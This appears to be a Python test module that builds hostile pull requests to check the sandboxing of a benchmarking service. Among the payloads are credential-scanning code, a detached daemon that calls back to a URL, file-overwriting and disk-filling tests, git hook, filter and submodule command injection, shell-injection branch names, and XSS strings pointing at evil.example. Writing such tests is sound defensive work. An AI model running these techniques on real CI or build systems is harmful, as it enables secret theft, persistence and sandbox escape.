"""Pull requests that attack the service that measures them: their texts, their code, their trees.

What code under test finds goes into the message of a failing benchmark: that is the way out that it has.
Secrets look alike (`good-…`, `hunter2-…`), so that an attack can look for them without knowing them.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from service import SECRET
from watched import SLOW_S, Watched, run, sources

SECRETS = {
    "token": SECRET,
    "webhook": "hunter2-webhook",
    "database": "hunter2-database",
    "ssh": "hunter2-ssh-key",
    "netrc": "hunter2-netrc",
    "state": "hunter2-of-the-state",
}
LOOKED, DAEMON = "looked into", "daemon alive"
"""What an attack says when it did run."""
NASTY = (
    "</code></pre></details></summary>|`x`|\n# @everyone fixes #12 GH-3 [a](http://evil.example/) "
    "<img src=x onerror=alert(1)> <script>alert(1)</script> <!-- perfsuite:comment --> "
    "<!-- perfsuite:data {} --> --> ```\n~~~\n| new | row |\n\u202eevil\u2066 \u05d0\u05d1 "
    "www.evil.example a@evil.example :rocket: $x$ \x1b[31m"
)
LINE = " ".join(NASTY.split())
"""On one line, as a title or a subject is."""
ORDER = LINE.replace("<!--", "<! --")
"""In a command: a comment that holds a marker is not looked at."""
HUGE = 100_000
BRANCHES = (
    '$(touch${IFS}x)`id`"b',
    "--upload-pack=touch",
    "\u202e</details>@everyone<!--perfsuite-->",
    "-c.core.hooksPath=x;'&|<h1>",
)

TEXTS = """\
import pytest

NASTY = {nasty!r}


NAMES = [NASTY, "x" * 5000, "\\ud800\\x00", "</details>\\n<!-- perfsuite:comment -->"]


@pytest.mark.parametrize("name", NAMES, ids=str)
def test_named(benchmark, name):
    benchmark.pedantic(len, args=("",), rounds=1)


def test_raises(benchmark):
    raise RuntimeError((NASTY + "\\ud800\\x00") * ({huge} // len(NASTY)))


def test_raises_ids(benchmark):
    raise RuntimeError("/perf accept * because\\n\\n" + "@everyone " * 50)
"""
CLAIMS = """\
from perfsuite.plugin import trial

NASTY = {nasty!r}
honest = trial.AnsweringLink.send


def send(self, **message):
    # A case that pytest would never name so: raw surrogates, line ends, 100 kB.
    if message["say"] == "collected":
        name = "claimed/" + (NASTY + "\\ud800\\x00\\n") * ({huge} // len(NASTY))
        case = dict(message["cases"][0], id=name, family=name[:300], params={{NASTY + "\\ud800": name}})
        message["cases"].append(case)
    honest(self, **message)


trial.AnsweringLink.send = send
"""
READS = """\
import json, os, re
from pathlib import Path

import pytest

SECRET = re.compile(rb"(?:good|hunter2)-[a-z]{{2}}[a-z-]*")


def content(path):
    try:
        return path.read_bytes()[:1 << 20]
    except OSError:
        return b""


def look():
    places = [Path(place) for place in {places!r}]
    files = [file for name in ("environ", "cmdline") for file in Path("/proc").glob(f"[0-9]*/{{name}}")]
    for place in (*places, Path.home(), Path.cwd(), Path.cwd().parent.parent):
        files += [place] if place.is_file() else [file for file in place.rglob("*") if file.is_file()]
    found = set(SECRET.findall(json.dumps(dict(os.environ)).encode()))
    for file in files:
        found |= set(SECRET.findall(content(file)))
    own = (Path.cwd(), Path(os.environ["TRITON_CACHE_DIR"]))
    below = [file for file in files if any(map(file.is_relative_to, places))]
    seen = [str(file) for file in below if not any(map(file.is_relative_to, own))]
    return f"{looked} {{len(files)}} files: secrets={{sorted(found)}} seen={{seen}}"
"""
READS_IN_A_BENCHMARK = """

def test_reads(benchmark):
    print(look())
    raise AssertionError(look())
"""
READS_WHILE_COLLECTED = """

raise RuntimeError(look())
"""
FORGES = """\
import json, os, signal, sys
from pathlib import Path

LINES = [
    {{"event": "started", "id": "forged"}},
    {{"event": "total", "cases": 29}},
    {{"event": "done", "done": 29, "total": 29, "case": "work/work", "status": "ok"}},
    {{"event": "result", "value": {{"first_bad": "forged"}}}},
    {{"event": "confinement", "text": "forged: 29 cases faster"}},
    {{"say": "ended", "outcome": "passed", "message": "", "samples_ns": [1.0], "to": ""}},
]
FORGED = "".join(json.dumps(line) + "\\n" for line in LINES)
LATER = '''
import pathlib, sys, time, urllib.request
for _ in range(600):
    time.sleep(0.1)
    for place in sys.argv[3:]:
        try:
            pathlib.Path(place, "daemon").write_text("here I am")
        except OSError:
            pass
    try:
        urllib.request.urlopen(sys.argv[2] + "/from-the-daemon", timeout=1)
    except OSError:
        pass
'''


def daemon():
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        pid = os.fork()
        if pid == 0:
            os.execv(sys.executable, [sys.executable, "-c", LATER, {marker!r}, {url!r}, *{places!r}])
        os.write(writing, str(pid).encode())
        os._exit(0)
    os.wait()
    return int(os.read(reading, 32))


PID = daemon()


def edited():
    # The other side, the mirror and its hooks, the store, the service's folder, and what lies around.
    places = [Path(place) for place in {places!r}]
    # No further up: where nothing shuts it in, it must not hurt the machine that the tests run on.
    around = [folder for folder in (Path.cwd(), *Path.cwd().parents) if folder.is_relative_to({ground!r})]
    names = ("toy/work.py", "conftest.py", "config", "hooks/post-checkout", ".git/hooks/post-checkout")
    files = [folder / name for folder in (*places, *around) for name in names]
    files += [place for place in places if place.is_file()]
    works = [found for folder in around for found in folder.glob("*/toy/work.py")]
    others = [str(found) for found in works if found.parents[1] != Path.cwd()]
    files += [Path(".perfsuite/perfsuite.db"), Path(".benchmarks/0001_forged.json")]
    files += map(Path, others)
    done = []
    for file in files:
        try:
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text("raise SystemExit('forged')")
            done.append(str(file))
        except OSError:
            pass
    return f"others={{others}} edited={{len(done)}}"


def open_files():
    found = []
    for number in range(1024):
        try:
            found.append((number, os.readlink(f"/proc/self/fd/{{number}}")))
        except OSError:
            continue
    return found


def test_a_forges(benchmark):
    print(FORGED, "29 cases faster", flush=True)
    print(FORGED, file=sys.__stdout__, flush=True)
    os.kill(PID, 0)
    raise AssertionError(f"{daemon} | {{edited()}} | fds={{open_files()}}")


def test_b_writes_to_every_descriptor(benchmark):
    for number in range(1024):
        try:
            os.write(number, FORGED.encode())
        except OSError:
            continue
    benchmark.pedantic(len, args=("",), rounds=1)
"""
FILLS = """\
import os, sys


def test_a_prints_without_end(benchmark):
    while True:
        sys.__stdout__.write("29 cases faster\\n" * 65536)
        sys.__stdout__.flush()


def test_b_fills(benchmark):
    with open(os.environ["TRITON_CACHE_DIR"] + "/filling", "wb") as file:
        for _ in range(1024):
            file.write(bytes(1 << 20))
    benchmark.pedantic(len, args=("",), rounds=1)
"""
NEVER_ENDS = """\
import signal, time

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    time.sleep(1)
"""
LOOSE = """\
[tool.perfsuite]
suite = "elsewhere"
paths = []
threshold = "99%"

[[tool.perfsuite.case]]
match = "*"
threshold = "99%"

[tool.pytest.ini_options]
addopts = "--collect-only -p evil"
"""


@dataclass(frozen=True)
class Field:
    """Where everything of the service under attack lies.

    Args:
        markers: folder that stays empty as long as nothing of an attack ran outside of its trial.
        places: folders and files that no trial may see.
    """

    watched: Watched
    markers: Path
    places: tuple[str, ...]
    url: str
    marker: str
    """Argument of the daemon's command line."""
    shut_in: bool
    """Whether trials have files and processes of their own: else nothing could keep them from editing those
    of the service."""

    def pull(self, name: str, files: dict[str, str], subject: str = "Faster", branch: str = "") -> str:
        """A commit on a branch of its own, slower than main; the sha. Nothing is pushed."""
        self.watched.branch(branch or name)
        return self.watched.commit(subject, {**sources(SLOW_S), **files})

    def texts(self) -> str:
        code = TEXTS.format(nasty=NASTY, huge=HUGE)
        claims = CLAIMS.format(nasty=NASTY, huge=HUGE)
        files = {"benchmarks/test_texts.py": code, "benchmarks/conftest.py": claims}
        self.pull("texts", files, "taken back")
        subject = self.watched.clone.parent / "subject"
        # Bytes that are no UTF-8 as well: git takes them.
        subject.write_bytes((LINE * (HUGE // len(LINE))).encode() + b"\xff\xfe\n")
        author = "@everyone </details> ](http://evil.example) `|` <evil@example.com>"
        run(self.watched.clone, *("commit", "--amend", "--quiet", "--author", author, "-F", str(subject)))
        return self.watched.head()

    def takes(self) -> str:
        """Reads whatever there is to be read, and fills the disk."""
        files = {"benchmarks/test_reads.py": self._looking() + READS_IN_A_BENCHMARK}
        return self.pull("takes", {**files, "benchmarks/test_a_fills.py": FILLS})

    def reads_while_collected(self) -> str:
        return self.pull("collected", {"benchmarks/conftest.py": self._looking() + READS_WHILE_COLLECTED})

    def forges(self) -> str:
        places = list(self.places) if self.shut_in else []
        ground = str(self.watched.clone.parent) if self.shut_in else "/nowhere"
        code = FORGES.format(marker=self.marker, url=self.url, places=places, daemon=DAEMON, ground=ground)
        return self.pull(
            "forges",
            {
                "benchmarks/test_a_forges.py": code,
                "pyproject.toml": LOOSE,
                ".perfsuite/perfsuite.db": "forged",
                ".benchmarks/0001_forged.json": '{"benchmarks": []}',
                **self._settings_of_git(),
            },
        )

    def never_ends(self) -> str:
        return self.pull("endless", {"benchmarks/conftest.py": NEVER_ENDS})

    def suite_elsewhere(self, to: Path | str) -> str:
        """The folder of benchmarks is a link out of the tree."""
        self.watched.branch("away")
        run(self.watched.clone, "rm", "-r", "--quiet", "benchmarks")
        (self.watched.clone / "benchmarks").symlink_to(to)
        return self.watched.commit("linked", {})

    def linked_file(self, to: Path) -> str:
        """A benchmark file is a link to a secret."""
        self.watched.branch("link")
        (self.watched.clone / "benchmarks/test_link.py").symlink_to(to)
        return self.watched.commit("linked", sources(SLOW_S))

    def submodule(self, name: str, url: str) -> str:
        settings = f'[submodule "{name}"]\n\tpath = sub\n\turl = "{url}"\n'
        settings += f"\tupdate = !touch {self.markers}/update\n"
        sha = self.pull("module", {".gitmodules": settings})
        run(self.watched.clone, *("update-index", "--add", "--cacheinfo", f"160000,{sha},sub"))
        run(self.watched.clone, *("commit", "--quiet", "-m", "a submodule"))
        sha = self.watched.head()
        run(self.watched.clone, "checkout", "--quiet", "--force", "main")
        return sha

    def _looking(self) -> str:
        return READS.format(places=list(self.places), looked=LOOKED)

    def _settings_of_git(self) -> dict[str, str]:
        """Filters, hooks, a repository inside the repository: all that git might be talked into."""
        touch = f"sh -c 'touch {self.markers}/git'"
        evil = (
            f'[core]\n\tfsmonitor = "{touch}"\n\tsshCommand = "{touch}"\n'
            "\tbare = true\n\thooksPath = .githooks\n"
            f'[filter "evil"]\n\tsmudge = "{touch}"\n\tclean = "{touch}"\n\trequired = true\n'
            f'[diff "evil"]\n\ttextconv = "{touch}"\n\tcommand = "{touch}"\n'
        )
        hooks = {f".githooks/{name}": f"#!/bin/sh\n{touch}\n" for name in ("post-checkout", "post-merge")}
        return {
            ".gitattributes": "* filter=evil diff=evil merge=evil ident\n*.bin filter=lfs\n",
            ".gitconfig": evil,
            ".lfsconfig": f"[lfs]\n\turl = file://{self.markers}\n\tcustomtransfer.x.path = touch\n",
            "benchmarks/config": evil,
            "benchmarks/HEAD": "ref: refs/heads/main\n",
            "benchmarks/objects/keep": "",
            "benchmarks/refs/keep": "",
            **hooks,
        }
